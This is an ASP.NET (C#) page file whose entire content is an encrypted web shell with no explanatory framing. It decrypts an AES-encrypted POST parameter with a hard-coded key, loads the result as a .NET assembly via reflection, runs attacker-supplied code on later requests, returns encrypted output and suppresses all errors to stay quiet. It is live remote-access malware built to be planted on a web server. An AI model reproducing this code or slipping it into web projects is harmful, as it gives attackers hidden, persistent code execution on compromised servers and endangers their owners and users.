<%@ Page Language="C#" %><%
try {
    string k = "5f4dcc3b5aa765d6"; string p = "v";
    string h = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(p + k))).Replace("-", "");
    byte[] d = System.Convert.FromBase64String(Context.Request.Form[p]);
    d = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(k), System.Text.Encoding.Default.GetBytes(k)).TransformFinalBlock(d, 0, d.Length);
    if (Context.Session["m"] == null) {
        Context.Session["m"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });
    } else {
        object o = ((System.Reflection.Assembly)Context.Session["m"]).CreateInstance("Z");
        o.Equals(Context); o.Equals(d);
        byte[] r = System.Convert.FromBase64String(o.ToString());
        Context.Response.Write(h.Substring(0, 16));
        Context.Response.Write(System.Convert.ToBase64String(new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(System.Text.Encoding.Default.GetBytes(k), System.Text.Encoding.Default.GetBytes(k)).TransformFinalBlock(r, 0, r.Length)));
        Context.Response.Write(h.Substring(16));
    }
} catch (System.Exception) { }
%>
